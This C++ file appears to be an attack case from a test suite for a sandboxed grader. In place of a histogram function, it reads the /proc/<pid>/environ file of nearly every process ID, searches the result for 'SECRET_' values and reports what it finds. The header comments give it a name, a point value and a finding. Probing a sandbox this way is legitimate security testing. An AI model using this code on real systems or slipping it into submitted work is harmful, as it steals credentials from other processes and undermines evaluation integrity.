// attack: histogram-threads
// tries: to read the environment of every process
// points: 5
// finding: correct threw
// open at: none - the program runs as the grader's user and sees all that this user sees
// quick

#include "histogram.hpp"

std::vector<std::uint64_t> histogram(const Board&, int) {
  std::string all;
  for (int pid = 1; pid < 4000; ++pid)
    if (pid != ::getpid()) all += attack::text_of("/proc/" + std::to_string(pid) + "/environ", 65536);
  const auto at = all.find("SECRET_");
  attack::tell("the environment of others" + (at == std::string::npos ? "" : " = " + all.substr(at, 40)),
               at != std::string::npos);
  attack::confess();
}
